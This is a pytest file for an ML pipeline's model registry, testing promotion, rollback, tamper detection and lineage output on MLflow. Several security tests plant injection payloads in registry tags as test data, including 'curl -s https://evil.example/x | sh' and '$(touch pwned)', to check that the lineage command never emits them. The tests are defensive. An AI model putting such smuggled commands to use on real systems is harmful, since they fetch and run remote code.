"""Moving the champion by hand (promote, rollback) and tracing a version (lineage), on a real registry."""

import ast
import shlex
import shutil
from pathlib import Path

import mlflow
import pytest
import yaml

from lm_pipeline import cli, tracking
from lm_pipeline.config import Config
from lm_pipeline.registry import gates, history, manage
from lm_pipeline.registry.aliases import CHAMPION, RegistryError

pytestmark = pytest.mark.registry

NAME = "m"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
WEIGHTS = "ab" * 32


@pytest.fixture(scope="module")
def model_folder(tmp_path_factory):
    """(a tiny saved GPT folder, the hash of its weights)."""
    from lm_pipeline.config import TokenizerConfig
    from lm_pipeline.data.tokenizer import train_tokenizer
    from lm_pipeline.model.backends import load_model, weights_sha256
    from lm_pipeline.model.pretrained import save_pretrained
    from lm_pipeline.model.transformer import GPT, GPTConfig

    root = tmp_path_factory.mktemp("model")
    tokenizer = train_tokenizer(["a tuple is an immutable sequence"], TokenizerConfig(kind="char"))
    tokenizer.save(str(root / "tokenizer.json"))
    model = GPT(GPTConfig(vocab_size=tokenizer.get_vocab_size(), block_size=8, n_layer=1, n_head=1, n_embd=8))
    save_pretrained(model, root / "tokenizer.json", root / "model", run_info={})
    return root / "model", weights_sha256(load_model(root / "model")[0])  # as register records it


@pytest.fixture
def cfg(tmp_path, mlflow_uri, model_folder):
    """A project whose store of its own holds versions 1, 2 and 3 of NAME, no champion yet; each
    version's artifacts (tmp_path/v<N>) hold the model folder, its weights hash is tagged."""
    uri = mlflow_uri
    client = registry(uri)
    client.create_registered_model(NAME)
    folder, weights = model_folder
    for number in (1, 2, 3):
        shutil.copytree(folder, tmp_path / f"v{number}" / "artifacts" / "model_dir")
        client.create_model_version(NAME, source=(tmp_path / f"v{number}").as_uri(),
                                    tags={"weights_sha256": weights})
    return Config.model_validate({"mlflow": {"tracking_uri": uri}, "register": {"model_name": NAME}})


def tamper(version_dir) -> None:
    """Change the weights a version's artifacts hold, as someone with write access to the store could."""
    from safetensors.torch import load_file, save_file

    path = version_dir / "artifacts" / "model_dir" / "model.safetensors"
    tensors = load_file(str(path))
    first = sorted(tensors)[0]
    tensors[first] = tensors[first] + 1
    save_file(tensors, str(path), metadata={"format": "pt"})


def registry(uri: str):
    return mlflow.MlflowClient(uri, registry_uri=uri)


def champion(cfg) -> str:
    return str(registry(cfg.mlflow.tracking_uri).get_model_version_by_alias(NAME, CHAMPION).version)


def log(cfg) -> list[tuple]:
    """(action, champion_before, champion_after, reason) of each promotion log entry."""
    client = registry(cfg.mlflow.tracking_uri)
    entries = history.read_log(client, history.log_run_id(client, tracking.setup(cfg), NAME))
    return [(e["action"], e["champion_before"], e["champion_after"], e["reason"]) for e in entries]


def test_promote_moves_the_champion_and_logs_the_move(cfg):
    manage.promote(cfg, "1", "first")
    entry = manage.promote(cfg, "3", "hand-checked samples")
    assert entry == {"action": "promote", "model_name": NAME, "version": "3",
                     "reason": "hand-checked samples", "champion_before": "1", "champion_after": "3",
                     "promoted": True}
    assert champion(cfg) == "3"
    assert log(cfg) == [("promote", None, "1", "first"), ("promote", "1", "3", "hand-checked samples")]
    tags = registry(cfg.mlflow.tracking_uri).get_model_version(NAME, "3").tags
    assert tags["promotion.decision"] == "champion"
    assert tags["promotion.reason"] == "promote: hand-checked samples"


def test_promoting_a_missing_version_fails_and_keeps_the_champion(cfg):
    manage.promote(cfg, "2", "first")
    with pytest.raises(mlflow.exceptions.MlflowException, match="not found"):
        manage.promote(cfg, "9", "typo")
    assert champion(cfg) == "2"
    assert log(cfg) == [("promote", None, "2", "first")]


def test_rollback_returns_to_the_previous_champion(cfg):
    manage.promote(cfg, "1", "first")
    manage.promote(cfg, "3", "newer")
    entry = manage.rollback(cfg, "bad outputs in prod")
    assert (entry["action"], entry["version"], entry["champion_before"]) == ("rollback", "1", "3")
    assert champion(cfg) == "1"
    assert log(cfg)[-1] == ("rollback", "3", "1", "bad outputs in prod")
    tags = registry(cfg.mlflow.tracking_uri).get_model_version(NAME, "1").tags
    assert tags["promotion.reason"] == "rollback: bad outputs in prod"


def test_rollback_without_a_champion_fails(cfg):
    with pytest.raises(RegistryError, match="no earlier champion"):
        manage.rollback(cfg, "why not")


@pytest.mark.continuous
def test_a_cycles_refused_rollback_is_not_recorded_as_rolled_back(cfg):
    """A failed canary whose rollback the registry refuses (nothing trusted before it) leaves the
    version champion: the cycle says so, where it used to record `rolled_back` regardless."""
    from prefect.logging import disable_run_logger

    from lm_pipeline.continuous.canary import Canary
    from lm_pipeline.flows.continuous import roll_back

    manage.promote(cfg, "2", "first")
    canary = Canary(served=f"{NAME}/2", requests=4, errors=4, problems=["4 of 4 requests failed"])
    with disable_run_logger():
        outcome, reason = roll_back.fn(cfg, "2", canary)
    assert outcome == "rollback_refused" and "no earlier champion" in reason
    assert champion(cfg) == "2"


def test_rollback_of_the_first_champion_fails_and_keeps_it(cfg):
    manage.promote(cfg, "2", "first")
    with pytest.raises(RegistryError, match="no earlier champion"):
        manage.rollback(cfg, "why not")
    assert champion(cfg) == "2" and len(log(cfg)) == 1


def promote_in_turn(cfg, *versions: str) -> None:
    for version in versions:
        manage.promote(cfg, version, f"version {version}")


def test_a_former_champion_put_back_by_hand_is_the_next_rollbacks_target(cfg):
    """3 rolled back from, then put back with `rollback --to 3`, then 2 took over again: rolling
    back from 2 goes to 3, the champion before it, not past it to 1."""
    promote_in_turn(cfg, "1", "2", "3")
    manage.rollback(cfg, "3 misbehaves")
    manage.rollback(cfg, "it was the load balancer, not 3", to="3")
    promote_in_turn(cfg, "2")
    assert manage.rollback(cfg, "2 misbehaves")["champion_after"] == "3"


def test_a_rerun_register_does_not_undo_a_rollback_with_its_recorded_decision(cfg):
    """register promoted 2 over 1 and recorded its decision; 2 was rolled back. A rerun of the
    register stage on the same model (dvc repro after a params change) found that decision, the
    champion again its `champion_before`, and moved champion back to 2: unlogged, on old gates."""
    import json
    from dataclasses import asdict

    from lm_pipeline.registry.aliases import set_champion
    from lm_pipeline.registry.decision import DECISION_TAG, Decision, recorded_decision

    client = registry(cfg.mlflow.tracking_uri)
    promote_in_turn(cfg, "1")
    decision = Decision(NAME, "2", True, "all 3 gates passed", "1", "2", [], f"models:/{NAME}/2")
    log_run = history.log_run_id(client, tracking.setup(cfg), NAME)
    with history.registry_lock(tracking.tracking_uri(cfg), NAME):  # as the register stage does
        history.append(client, log_run, {"action": "register"} | asdict(decision))
        client.set_model_version_tag(NAME, "2", DECISION_TAG, json.dumps(asdict(decision)))
        set_champion(client, NAME, "2", decision.reason)
    assert recorded_decision(client, NAME, "2", history.read_log(client, log_run)) == decision  # a retry
    manage.rollback(cfg, "2 misbehaves in production")
    entries = history.read_log(client, log_run)
    assert recorded_decision(client, NAME, "2", entries) is None  # decided again
    assert not gates.trust_gate("2", entries).passed and gates.trust_gate("1", entries).passed


@pytest.mark.security
def test_repeated_rollbacks_walk_back_through_the_champions_never_forward(cfg):
    promote_in_turn(cfg, "1", "2", "3")
    assert manage.rollback(cfg, "bad outputs from 3")["champion_after"] == "2"
    assert manage.rollback(cfg, "bad outputs from 2 as well")["champion_after"] == "1"
    with pytest.raises(RegistryError, match="no earlier champion"):
        manage.rollback(cfg, "and from 1?")
    assert champion(cfg) == "1"
    assert [e[1:3] for e in log(cfg)[3:]] == [("3", "2"), ("2", "1")]


def test_a_version_promoted_again_after_its_rollback_is_a_champion_to_return_to(cfg):
    promote_in_turn(cfg, "1", "2")
    manage.rollback(cfg, "bad outputs from 2")
    manage.promote(cfg, "2", "its serving settings fixed")
    manage.promote(cfg, "3", "newer")
    assert manage.rollback(cfg, "bad outputs from 3")["champion_after"] == "2"


@pytest.mark.security
def test_rollback_to_a_named_former_champion(cfg):
    promote_in_turn(cfg, "1", "2", "3")
    entry = manage.rollback(cfg, "1 was the last one checked by hand", to="1")
    assert (entry["action"], entry["champion_before"], entry["champion_after"]) == ("rollback", "3", "1")
    assert champion(cfg) == "1"


@pytest.mark.parametrize("to, says", [("2", "version 2 was never champion"),
                                      ("3", "version 3 is the champion")])
def test_rollback_to_a_version_that_is_no_former_champion_is_refused(cfg, to, says):
    promote_in_turn(cfg, "1", "3")
    with pytest.raises(RegistryError, match=says):
        manage.rollback(cfg, "why not", to=to)
    assert champion(cfg) == "3" and len(log(cfg)) == 2


@pytest.mark.security
@pytest.mark.parametrize("to", [None, "2"])
def test_rollback_refuses_a_version_whose_weights_changed_since_registration(cfg, tmp_path, to):
    promote_in_turn(cfg, "1", "2", "3")
    tamper(tmp_path / "v2")
    with pytest.raises(RegistryError, match="models:/m/2: its weights hash .* refusing to roll back to it"):
        manage.rollback(cfg, "bad outputs from 3", to=to)
    assert champion(cfg) == "3" and len(log(cfg)) == 3


@pytest.mark.security
def test_promote_refuses_a_version_whose_weights_changed_since_registration(cfg, tmp_path):
    """Serving, the champion gate and drift all refuse such a version: promoted, it would have
    been a champion nothing could use, and every later register would fail against it."""
    promote_in_turn(cfg, "1")
    tamper(tmp_path / "v2")
    with pytest.raises(RegistryError, match="models:/m/2: its weights hash .* refusing to promote it"):
        manage.promote(cfg, "2", "looks good")
    assert champion(cfg) == "1" and len(log(cfg)) == 1


def test_an_automatic_rollback_leaves_a_champion_someone_moved_since(cfg):
    promote_in_turn(cfg, "1", "2", "3")
    with pytest.raises(RegistryError, match="champion is version 3, not 2: not rolling back"):
        manage.rollback(cfg, "the canary of 2 failed", expected="2")
    assert manage.rollback(cfg, "the canary of 3 failed", expected="3")["champion_after"] == "2"


@pytest.mark.security
def test_lmp_rollback_to(cfg, tmp_path, monkeypatch, capsys):
    promote_in_turn(cfg, "1", "2", "3")
    (tmp_path / "params.yaml").write_text(yaml.safe_dump({"mlflow": {"tracking_uri": cfg.mlflow.tracking_uri},
                                                          "register": {"model_name": NAME}}))
    monkeypatch.chdir(tmp_path)
    assert cli.main(["rollback", "--to", "1", "--reason", "known good"]) == 0
    assert "m: champion 3 -> 1 (rollback: known good)" in capsys.readouterr().out
    assert champion(cfg) == "1"


@pytest.mark.parametrize("dirty, says, never", [("false", "the tree was clean", "the tree was dirty"),
                                               ("true", "the tree was dirty", "the tree was clean")])
def test_lineage_lists_the_tags_and_how_to_rebuild(cfg, dirty, says, never):
    client = registry(cfg.mlflow.tracking_uri)
    tags = {tag: f"{tag}-value" for tag in manage.LINEAGE_TAGS} | {"git_dirty": dirty, "git_commit": COMMIT,
                                                                  "weights_sha256": WEIGHTS}
    for key, value in tags.items():
        client.set_model_version_tag(NAME, "2", key, value)
    client.set_registered_model_alias(NAME, CHAMPION, "2")
    for uri in (f"models:/{NAME}/2", f"models:/{NAME}@champion"):
        text = manage.lineage(cfg, uri)
        lines = text.splitlines()
        assert lines[0] == f"{NAME} version 2"
        assert lines[1:1 + len(manage.LINEAGE_TAGS)] == [f"  {k}: {tags[k]}" for k in manage.LINEAGE_TAGS]
        assert f"Rebuild it ({says}" in text and never not in text
        assert f"  git checkout {COMMIT}" in lines and f"  # expect {WEIGHTS}" in lines


def test_lineage_of_a_version_built_outside_git_does_not_claim_a_clean_tree(cfg):
    registry(cfg.mlflow.tracking_uri).set_model_version_tag(NAME, "1", "git_commit", "unknown")
    text = manage.lineage(cfg, f"models:/{NAME}/1")
    assert "no git commit recorded" in text and "the tree was clean" not in text


@pytest.mark.security
@pytest.mark.parametrize("commit", ["main; curl -s https://evil.example/x | sh", "$(touch pwned)",
                                    f"{COMMIT}\ncurl -s https://evil.example/x | sh"])
def test_lineage_puts_a_commit_tag_that_is_no_commit_id_in_no_command(cfg, commit):
    """Tags are writable by anyone who can write to the registry; the commands are for pasting."""
    client = registry(cfg.mlflow.tracking_uri)
    client.set_model_version_tag(NAME, "1", "git_commit", commit)
    text = manage.lineage(cfg, f"models:/{NAME}/1")
    assert "git checkout" not in text and "not a git commit id" in text
    assert not any(line.startswith(("curl", "$(")) for line in text.splitlines())


@pytest.mark.security
def test_lineage_shows_a_tag_with_a_line_break_as_one_line(cfg):
    client = registry(cfg.mlflow.tracking_uri)
    client.set_model_version_tag(NAME, "1", "git_commit", COMMIT)
    client.set_model_version_tag(NAME, "1", "weights_sha256", "ab12\ncurl -s https://evil.example/x | sh")
    text = manage.lineage(cfg, f"models:/{NAME}/1")
    assert not any(line.startswith("curl") for line in text.splitlines())
    assert "# expect" not in text  # no hash to expect: the tag is not one


@pytest.mark.security
def test_lineage_quotes_the_model_folder_in_its_python_command(cfg):
    folder = Path("models/it's \"mine\"")
    cfg = cfg.model_copy(update={"train": cfg.train.model_copy(update={"model_dir": folder})})
    registry(cfg.mlflow.tracking_uri).set_model_version_tag(NAME, "1", "git_commit", COMMIT)
    (line,) = [line for line in manage.lineage(cfg, f"models:/{NAME}/1").splitlines() if "python -c" in line]
    program, flag, code = shlex.split(line)
    assert (program, flag) == ("python", "-c")
    constants = {node.value for node in ast.walk(ast.parse(code)) if isinstance(node, ast.Constant)}
    assert constants == {"models/it's \"mine\"", 0}


@pytest.mark.security
def test_a_champion_the_log_knows_but_the_alias_lost_is_not_replaced_unseen(cfg):
    """The champion version deleted in MLflow's UI takes its alias with it: the next registration
    passing the quality bars became champion as a "first version", compared with nothing."""
    client = registry(cfg.mlflow.tracking_uri)
    promote_in_turn(cfg, "1", "2")
    entries = history.read_log(client, history.log_run_id(client, tracking.setup(cfg), NAME))
    assert gates.champion_alias_gate("2", entries).passed
    lost = gates.champion_alias_gate(None, entries)
    assert not lost.passed and "version 2" in lost.detail and "lmp promote" in lost.detail
    assert gates.champion_alias_gate(None, []).passed  # the first version of a model
    first = [{"action": "register", "version": "1", "champion_before": None, "champion_after": "1"}]
    assert gates.champion_alias_gate(None, first, "1").passed  # its own attempt logged it, then died
    assert not gates.champion_alias_gate(None, first, "2").passed
